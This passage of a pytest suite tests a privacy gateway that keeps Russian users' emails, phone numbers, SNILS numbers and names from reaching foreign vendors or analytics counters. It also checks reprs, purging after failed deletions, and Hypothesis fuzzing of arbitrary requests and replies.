async def test_no_target_carries_a_russian_abroad(target: str) -> None:
    on = stage(shipped())
    await on.send(Request("PUT", target, (("Host", "gw"),), b""))
    assert leaked(on, EMAIL, "+79000000123") == []


@pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS", "DELETE", "PATCH", "PROPFIND", "TRACE"])
async def test_a_body_is_looked_into_whatever_the_method(method: str) -> None:
    on = stage(shipped())
    await on.send(post("/api/users/7", {"email": EMAIL}, method=method))
    assert leaked(on, EMAIL) == []


async def test_no_method_carries_a_russian_abroad() -> None:
    on = stage(shipped())
    await on.send(post("/api/users/7", {"sku": "b"}, method="89000000123"))
    assert leaked(on, "89000000123") == []


@pytest.mark.parametrize("request_", [
    pytest.param(post("/collect/v1?visitor-4711", {"event": "page"}), id="name in the query"),
    pytest.param(post("/collect/v1", {"visitor-4711": {}, "event": "page"}), id="empty object"),
    pytest.param(post("/collect/v1", {"visitor-4711": {"event": "page"}}), id="key above"),
    pytest.param(raw("/collect/v1", FORM, b"visitor-4711&event=page"), id="name in a form"),
    pytest.param(post("/collect/v1", {"event": "page"}, (("Cookie", "visitor-4711"),)), id="cookie"),
    pytest.param(post("/collect/v1", {"event": "page"}, (("If-None-Match", '"visitor-4711"'),)), id="ETag"),
    pytest.param(post("/collect/v1", {"event": "page"}, (("X-Visitor", "visitor-4711"),)), id="header"),
    pytest.param(post("/collect/v1?v=visitor-4711", {"event": "page", "v": ["visitor-4711"]}), id="values"),
    pytest.param(raw("/collect/v1", "text/plain", b"visitor-4711"), id="text"),
])  # fmt: skip
async def test_no_stable_name_reaches_a_counter(request_: Request) -> None:
    on = stage(shipped())
    await on.send(request_)
    assert on.received
    assert b"visitor-4711" not in sent_by(on)


async def test_a_vendors_own_cookie_does_not_come_back_to_it_as_it_was() -> None:
    on = stage(shipped())
    on.respond = lambda _: as_json({}, headers=(("Set-Cookie", "uid=visitor4711visitor"),))
    for _ in range(2):
        await on.send(post("/collect/v1", {"event": "page"}, (("Cookie", "uid=visitor4711visitor"),)))
    assert b"visitor4711" not in sent_by(on)


@pytest.mark.parametrize("value", ["79000000123", 79000000123, "112-233-445 95", "Анна Смирнова"])
async def test_an_id_that_is_somebodys_phone_snils_or_name_is_no_id(value: object) -> None:
    on = stage(shipped())
    await on.send(post("/api/users/7", {"user_id": value}))
    assert leaked(on, str(value)) == []


async def test_a_number_stays_a_number_where_its_value_was_a_text_before() -> None:
    on = stage()
    await on.send(post("/api/orders", {"snils": "112-233-445 95"}))
    await on.send(post("/api/orders", {"snils": 11223344595}))
    assert isinstance(body_of(on.last_sent)["snils"], int)


# ------------------------------------------------------------------------ 7. reprs, purging, deleting, crashing


async def test_no_repr_shows_a_personal_key() -> None:
    ruleset = world_rules()
    request = post("/api/orders", {EMAIL: {"phone": PHONE}})
    matched = find_route(ruleset, request)
    assert matched is not None
    assert EMAIL not in repr(read(request, matched, ruleset, Limits()))


def test_no_repr_shows_an_address() -> None:
    assert "198.51.100.7" not in repr(Caller(address="198.51.100.7"))


@pytest.mark.parametrize("status", [302, 401, 403, 500])
async def test_a_deletion_that_did_not_happen_ends_no_record(status: int) -> None:
    on = stage(shipped())
    anna = await registered(on, ANNA)
    on.respond = lambda _: as_json({}, status)
    await on.send(Request("DELETE", "/api/users/42", (("Host", "gw"),), b""))
    on.clock.at_ms += 400 * 86_400_000
    await on.vaults[RU].purge_expired(on.clock.now_ms() // 1000)
    await logged_in(on, EMAIL, "s1")
    assert "Анна" in await seen_by(on, anna, SID)


async def test_a_refused_strangers_request_purges_nothing_of_anybody_else() -> None:
    on = stage()
    anna = await registered(on, ANNA)
    on.respond = lambda _: as_json({"error": "taken"}, 409)
    for _ in range(3):
        await on.send(post("/api/register", {**MALLORY, "email": EMAIL, "phone": PHONE}))
    await logged_in(on, EMAIL, "s1")
    assert json.loads(await seen_by(on, anna, SID)) == ANNA


LOOSE = st.sampled_from([
    EMAIL, PHONE, "tkxm0t407va400vhq785dfbrg082@t.example", '{"a":[', "a=1&b=2", "https://u:p@h/x?q=1#f", "..",
    "%2e%2e",
    "\ud800", "\0", "x1.AAAAAA." + "A" * 60, "79761234567", "00590835140", "<b ", "=?", "data:,", "\udcff\udcfe",
    "1990-05-05",
])  # fmt: skip
TEXTS = st.one_of(LOOSE, st.text(max_size=20))
NAMES = st.sampled_from(
    [
        "Authorization",
        "Cookie",
        "Referer",
        "Forwarded",
        "Content-Encoding",
        "Range",
        "Idempotency-Key",
        "Location",
        "Set-Cookie",
        "Host",
        "X-Phone",
    ],
)
MEDIA = st.sampled_from([
    "application/json", "text/plain; charset=koi8-r", FORM, "text/html", "", "application/json; charset=utf-16",
    "image/png",
])  # fmt: skip
HEADERS = st.tuples(MEDIA, st.lists(st.tuples(NAMES, TEXTS), max_size=3)).map(
    lambda drawn: (("Host", "gw"), ("Content-Type", drawn[0]), *drawn[1])
)
VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), TEXTS),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXTS, inner, max_size=3)),
    max_leaves=8,
)
BODIES = st.one_of(
    st.binary(max_size=40),
    VALUES.map(lambda value: json.dumps(value).encode()),
    TEXTS.map(lambda text: f"a={text}&{text}".encode("utf-8", "surrogatepass")),
    TEXTS.map(lambda text: f"<p title='{text}'>{text}<script>'{text}'".encode("utf-8", "surrogatepass")),
)
TARGETS = st.one_of(
    st.sampled_from(["/api/register", "/api/login", "/api/users/42", "*", "http://h/api/me", "/upload", "/collect/v1"]),
    TEXTS.map(lambda text: f"/api/{text}"),
)
METHODS = st.sampled_from(["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "CONNECT", "FOO"])
REQUESTS = st.builds(Request, METHODS, TARGETS, HEADERS, BODIES)
REPLIES = st.builds(Reply, st.sampled_from([200, 201, 204, 302, 304, 404, 409, 500]), HEADERS, BODIES)


@settings(max_examples=150, deadline=None)
@given(REQUESTS, st.one_of(st.none(), REPLIES), st.sampled_from([world_rules, shipped]))
def test_whatever_comes_in_ends_in_an_answer_or_a_gateways_own_error(
    request_: Request, reply: Reply | None, rules: Callable[[], Ruleset]
) -> None:
    on = stage(rules())

    async def play() -> None:
        await registered(on, ANNA)
        on.respond = echo if reply is None else lambda _: reply
        for _ in range(2):
            await on.send(request_)

    asyncio.run(play())
